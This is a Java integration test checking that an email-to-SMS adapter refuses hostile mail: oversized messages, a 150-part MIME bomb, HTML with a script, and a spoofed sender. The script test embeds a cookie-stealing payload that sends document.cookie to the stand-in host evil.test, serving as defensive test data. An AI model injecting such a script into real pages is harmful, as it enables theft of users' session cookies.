package dev.switchboard.mail;

import com.icegreen.greenmail.junit5.GreenMailExtension;
import dev.switchboard.testing.Backend;
import dev.switchboard.testing.RunningSwitchboard;
import jakarta.mail.internet.MimeBodyPart;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import java.time.Duration;
import java.util.HashMap;
import java.util.Map;

import static dev.switchboard.mail.MailFixture.ALLOWED;
import static dev.switchboard.mail.MailFixture.smsTo;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Hostile mail from an allowed sender, on PostgreSQL and GreenMail: too large, a MIME bomb, HTML with a script, a
 * spoofed From - each filed with a clear reason and nothing sent; the adapter keeps working afterwards.
 */
class HostileMailIT {

    @RegisterExtension
    static final GreenMailExtension GREEN_MAIL = MailFixture.greenMail();

    private static MailFixture mail;
    private static RunningSwitchboard sb;

    @BeforeAll
    static void start() {
        mail = new MailFixture(GREEN_MAIL);
        Map<String, String> settings = new HashMap<>(mail.settings());
        settings.putAll(Backend.POSTGRES.freshDatabase("email_hostile"));
        settings.put("switchboard.mail.max-bytes", "50000");
        sb = RunningSwitchboard.start(settings);
    }

    @AfterAll
    static void stop() {
        sb.close();
    }

    @Test
    void a_mail_over_the_size_limit_is_refused_unread() throws Exception {
        MimeMessage m = mail.mail(ALLOWED, "+14155550801@sms.example.com", "Big");
        m.setText("Short text. " + "padding ".repeat(10_000), "UTF-8");
        mail.deliver(m);

        awaitFailed(m, "limit is 50000");
        assertThat(smsTo(sb, "+14155550801")).isEmpty();
    }

    @Test
    void a_mime_bomb_of_many_parts_is_refused() throws Exception {
        MimeMultipart many = new MimeMultipart("mixed");
        for (int i = 0; i < 150; i++) {
            MimeBodyPart p = new MimeBodyPart();
            p.setContent("x", "application/octet-stream");
            many.addBodyPart(p);
        }
        MimeMessage m = mail.mail(ALLOWED, "+14155550802@sms.example.com", "Bomb");
        m.setContent(many);
        mail.deliver(m);

        awaitFailed(m, "MIME parts");
        assertThat(smsTo(sb, "+14155550802")).isEmpty();
    }

    @Test
    void html_with_a_script_is_refused_and_nothing_is_sent() throws Exception {
        MimeMessage m = mail.mail(ALLOWED, "+14155550803@sms.example.com", "Alarm");
        m.setContent("<html><body><p>Door open</p><script>fetch('https://evil.test/'+document.cookie)</script></body></html>",
                "text/html; charset=UTF-8");
        mail.deliver(m);

        awaitFailed(m, "script");
        assertThat(smsTo(sb, "+14155550803")).isEmpty();
    }

    @Test
    void a_spoofed_from_with_a_foreign_envelope_is_rejected_then_a_good_mail_still_goes_through() throws Exception {
        MimeMessage spoofed = mail.mail(ALLOWED, "+14155550804@sms.example.com", "Spoofed");
        spoofed.setText("Open the gate", "UTF-8");
        mail.deliver(spoofed, "attacker@evil.test");
        MimeMessage good = mail.mail(ALLOWED, "+14155550805@sms.example.com", "Fine");
        good.setText("All clear", "UTF-8");
        mail.deliver(good);

        await().atMost(Duration.ofSeconds(15)).until(() -> mail.find("rejected", spoofed), f -> f != null);
        await().atMost(Duration.ofSeconds(15)).until(() -> smsTo(sb, "+14155550805"), sent -> !sent.isEmpty());
        assertThat(smsTo(sb, "+14155550804")).isEmpty();
        assertThat(mail.receivedBy("attacker@evil.test")).isEmpty();
    }

    private static void awaitFailed(MimeMessage m, String reason) throws Exception {
        await().atMost(Duration.ofSeconds(15)).until(() -> mail.find("failed", m), f -> f != null);
        assertThat(mail.receivedBy(ALLOWED)).anySatisfy(reply -> assertThat((String) reply.getContent()).contains(reason));
    }
}
